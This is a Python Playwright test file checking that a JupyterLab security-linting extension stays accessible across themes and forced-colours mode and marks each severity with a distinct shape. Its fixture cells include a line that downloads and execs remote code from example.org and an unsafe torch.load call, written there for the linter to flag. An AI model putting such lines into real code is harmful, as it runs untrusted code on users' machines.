"""Every theme, high contrast and forced colours: all of ours stays readable, and nothing is told by colour alone."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from playwright.sync_api import Locator, Page, expect

from tests.browser.axe import violations
from tests.browser.gated import RISKY
from tests.pages import command, tooltip

LOAD = 'import torch\n\nweights = torch.load("weights.pt", weights_only=False)'
REMOTE = "import requests\n\nexec(requests.get('https://example.org/x.py').text)"
CHECKLIST = "%load_ext jupyter_mlsec\n%mlsec declare profile profile=regulated\n%mlsec checklist"
THEMES = ("JupyterLab Dark", "JupyterLab Dark High Contrast", "JupyterLab Light")
DRAWN = """node => {
  const {backgroundColor, clipPath, borderRadius} = getComputedStyle(node);
  return [backgroundColor, clipPath === 'none' ? borderRadius : clipPath];
}"""
DIAMOND = "polygon(50% 0px, 100% 50%, 50% 100%, 0px 50%)"
BEFORE = """node => {
  const {clipPath, borderRadius} = getComputedStyle(node, '::before');
  return clipPath === 'none' ? borderRadius : clipPath;
}"""

OpenNotebook = Callable[..., Page]
Code = Callable[..., dict[str, Any]]
Picture = Callable[[Page, str], None]


def choose(page: Page, theme: str) -> None:
    page.evaluate("theme => void window.jupyterapp.commands.execute('apputils:change-theme', {theme})", theme)
    expect(page.locator("body")).to_have_attribute("data-jp-theme-name", theme)


def look(page: Page) -> list[Any]:
    """Return what axe says about everything of ours that can be on the page."""
    command(page, "mlsec:show-findings")
    row = page.locator("#mlsec-findings [data-mlsec-finding]").first
    if row.get_by_role("textbox").count() == 0:
        row.get_by_role("button", name="Ignore…").click()
    found = violations(page, "#mlsec-findings", "#mlsec-status", ".mlsec-edge")
    tooltip(page, page.locator(".cm-lintRange-error").first)
    found += violations(page, ".mlsec-tip")
    page.mouse.move(0, 0)
    command(page, "mlsec:show-checklist")
    item = page.locator("#mlsec-checklist [data-mlsec-item=GOV-06]")
    expect(item).to_be_visible()
    if item.get_by_role("form").count() == 0:
        item.locator("summary").click()
        item.get_by_role("button", name="Answer…").click()
    found += violations(page, "#mlsec-checklist", ".mlsec-checklist", ".mlsec-gate")
    command(page, "mlsec:export-run")
    form = page.get_by_role("dialog")
    expect(form.get_by_label("rows (int)")).to_be_visible()
    found += violations(page, ".mlsec-export")
    form.get_by_role("button", name="Cancel").click()
    expect(form).to_have_count(0)
    return found


def shapes(marks: Locator) -> list[str]:
    """Return the shape of each mark, and hold them to the one ink that forced colours leave."""
    drawn = [mark.evaluate(DRAWN) for mark in marks.all()]
    assert {ink for ink, _ in drawn} == {"rgb(0, 0, 0)"}
    return [shape for _, shape in drawn]


def test_all_is_readable_in_every_theme_and_in_forced_colours(
    blocking: OpenNotebook, code: Code, token: str, picture: Picture
) -> None:
    printed = {"output_type": "stream", "name": "stdout", "text": [f"token: {token}\n"]}
    parameters = code("rows = 100", tags=["parameters"])
    cells = [code(LOAD, printed), code(RISKY), code("!pip install lightgbm"), parameters, code(CHECKLIST)]
    page = blocking(cells)
    for index in (4, 1):
        page.locator(f'.jp-Cell[data-windowed-list-index="{index}"] .cm-content').click()
        page.keyboard.press("Control+Enter")
    page.locator(".mlsec-gate").get_by_role("button", name="Run anyway").click()
    expect(page.locator(".mlsec-gate").get_by_role("textbox")).to_be_visible()
    page.locator(".mlsec-checklist [data-mlsec-item=GOV-06] summary").click()
    found = {}
    for theme in THEMES:
        choose(page, theme)
        found[theme] = look(page)
        if "Contrast" in theme:
            command(page, "mlsec:show-findings")
            picture(page, "high-contrast")
    page.emulate_media(forced_colors="active")
    found["forced"] = look(page)
    picture(page, "forced-colours")
    gutter = shapes(page.locator(".cm-gutter-lint .cm-lint-marker"))
    line = page.locator(".cm-lintRange.mlsec-mark").first.evaluate(
        "node => { const s = getComputedStyle(node); return [s.textDecorationLine, s.textDecorationStyle]; }"
    )
    command(page, "mlsec:show-findings")
    toggle = page.locator("#mlsec-findings .mlsec-count").first
    pressed = toggle.evaluate("node => getComputedStyle(node).outlineStyle")
    toggle.click()
    released = toggle.evaluate("node => getComputedStyle(node).outlineStyle")
    toggle.click()
    page.emulate_media(forced_colors="none")
    assert found == {key: [] for key in (*THEMES, "forced")}
    assert gutter == [DIAMOND, DIAMOND, "50%"]
    assert line == ["underline", "wavy"]
    assert (pressed, released != pressed) == ("solid", True)


def test_each_severity_has_a_shape_and_a_line_of_its_own(open_document: OpenNotebook, code: Code) -> None:
    every = f"{REMOTE}\nimport torch\ntorch.load('w.pt', weights_only=False)\n!pip install lightgbm"
    page = open_document([code(every)])
    command(page, "mlsec:show-findings")
    rows = page.locator("#mlsec-findings .mlsec-row .mlsec-severity")
    expect(rows).to_have_text(["Critical", "High", "Low"])
    expect(page.locator(".cm-gutter-lint .cm-lint-marker")).to_have_count(3)
    page.emulate_media(forced_colors="active")
    gutter = shapes(page.locator(".cm-gutter-lint .cm-lint-marker"))
    panel = [row.evaluate(f"node => ({BEFORE})(node)") for row in rows.all()]
    page.emulate_media(forced_colors="none")
    lines = [
        page.locator(f".cm-lintRange.mlsec-mark-{severity}").first.evaluate(
            "node => getComputedStyle(node).textDecorationStyle"
        )
        for severity in ("critical", "high", "low")
    ]
    assert gutter == ["0px", DIAMOND, "50%"]  # a square, a diamond, a circle
    assert panel == gutter
    assert lines == ["double", "wavy", "dotted"]
